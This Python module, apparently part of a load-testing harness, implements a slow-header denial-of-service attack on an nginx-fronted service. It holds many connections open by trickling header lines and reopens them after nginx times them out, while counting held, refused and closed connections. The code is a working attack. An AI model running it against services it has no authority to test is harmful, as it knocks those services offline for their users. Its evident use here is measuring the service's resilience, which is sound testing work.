"""The slow-header attack: many connections from one address, each sending a header line every
2 s and never finishing its request, held for the whole case.

nginx closes each after client_header_timeout; the attacker opens another in its place, so the
figure is how many were held at once (and how many were opened, refused, closed by nginx).
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from typing import Any

from load_attack import (
    ATTACKER,
    SLOW_HEADERS,
    AttackFigures,
    connect,
    host_port,
    wait_or_done,
)

LINE_EVERY_S = 2.0
OPEN_LIMIT_S = 15.0  # to open them all before the normal users start
OPEN_CHECK_S = 0.05
UNDER_WAY_S = 2.5  # then each has sent a second header line
MAX_LINES = 600  # per connection: 20 minutes, far beyond any case
MAX_OPENS = 50  # per slot: reconnections after nginx's header timeout, or refusals
REQUEST_START = b"GET / HTTP/1.1\r\nHost: gifsvc\r\n"
HEADER_LINE = b"X-Slow: a header line every two seconds\r\n"


@dataclass(frozen=True)
class SlowAttack:
    connections: int

    @property
    def description(self) -> str:
        return (
            f"{self.connections} slow-header connections from {ATTACKER}, "
            f"a header line every {LINE_EVERY_S:g} s each"
        )

    def prepare(self, url: str) -> None:
        del url  # nothing to make

    async def run(self, url: str, ready: asyncio.Event, done: asyncio.Event) -> AttackFigures:
        figures = AttackFigures(SLOW_HEADERS, self.connections)
        stopped: asyncio.Future[Any] = asyncio.ensure_future(done.wait())
        slots = [asyncio.create_task(_hold(url, figures, stopped)) for _ in range(self.connections)]
        try:
            await _until_held(figures, self.connections, done)
            ready.set()
            await asyncio.gather(*slots)
        finally:
            ready.set()
            stopped.cancel()
            for slot in slots:
                slot.cancel()
            await asyncio.gather(*slots, return_exceptions=True)
        if figures.held_peak < self.connections:
            figures.problems.append(f"only {figures.held_peak} slow connections held at once")
        return figures


async def _until_held(figures: AttackFigures, wanted: int, done: asyncio.Event) -> None:
    for _ in range(int(OPEN_LIMIT_S / OPEN_CHECK_S)):
        if figures.held >= wanted:
            break
        await asyncio.sleep(OPEN_CHECK_S)
    await wait_or_done(done, UNDER_WAY_S)


async def _hold(url: str, figures: AttackFigures, stopped: asyncio.Future[Any]) -> None:
    """One slot: a slow connection, and another each time nginx closes it, until stopped."""
    host, port = host_port(url)
    for _ in range(MAX_OPENS):
        if stopped.done():
            return
        try:
            reader, writer = await connect(host, port)
        except OSError:
            figures.refused += 1
            await asyncio.wait({stopped}, timeout=1.0)
            continue
        figures.opened()
        try:
            await _dribble(reader, writer, figures, stopped)
        finally:
            figures.held -= 1
            writer.close()


async def _dribble(
    reader: asyncio.StreamReader,
    writer: asyncio.StreamWriter,
    figures: AttackFigures,
    stopped: asyncio.Future[Any],
) -> None:
    """Header lines every 2 s until stopped or nginx closes the connection."""
    closed: asyncio.Future[Any] = asyncio.ensure_future(reader.read(4096))
    try:
        writer.write(REQUEST_START)
        for _ in range(MAX_LINES):
            finished, _ = await asyncio.wait({closed, stopped}, timeout=LINE_EVERY_S)
            if closed in finished:
                figures.closed_by_server += 1
                return
            if stopped in finished:
                return
            writer.write(HEADER_LINE)
            await writer.drain()
    except OSError:
        figures.closed_by_server += 1
    finally:
        if closed.done() and not closed.cancelled():
            closed.exception()  # a reset, already counted: retrieved so it is not reported
        closed.cancel()
